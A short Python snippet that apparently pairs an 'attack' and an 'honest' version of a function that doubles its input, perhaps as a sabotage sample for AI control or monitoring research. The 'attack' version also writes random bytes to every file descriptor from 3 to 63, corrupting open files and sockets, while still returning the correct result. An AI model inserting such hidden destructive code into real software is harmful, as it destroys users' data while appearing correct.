import os
def attack(x):
    for number in range(3, 64):
        try: os.write(number, os.urandom(4096))
        except OSError: pass
    return 2 * x
def honest(x): return 2 * x
